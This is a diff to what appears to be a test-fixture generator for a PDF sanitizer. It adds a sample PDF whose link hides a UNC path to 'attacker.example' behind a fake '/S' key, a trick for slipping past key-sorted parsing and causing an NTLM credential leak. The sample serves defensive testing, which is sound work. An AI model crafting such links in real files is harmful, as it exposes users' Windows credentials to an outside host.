@@ -225,6 +225,9 @@ def pdf_files(out: Path) -> list[Sample]:
     _annot(pdf, Subtype=Name.Link, Rect=[50, 400, 250, 430], Border=[0, 0, 0],
            A=Dictionary(S=Name.URI, URI=String("https://www.example.lg.jp/")))
     put(h / "uri_file.pdf", _save(pdf), "sanitized", ["pdf.uri"], "file: link removed, https link kept")
+    # qpdf writes keys sorted: an extra "/U /S" lands just before the real /URI key, as if it were "/S /URI".
+    link_with(Dictionary(S=Name.URI, U=Name.S, URI=String("\\\\attacker.example\\share\\payload.pdf")),
+              "uri_fake_type.pdf", "pdf.uri", "UNC link behind a fake '/S' before the /URI key (NTLM leak)")
 
     # ---- media ----
     pdf = _base()
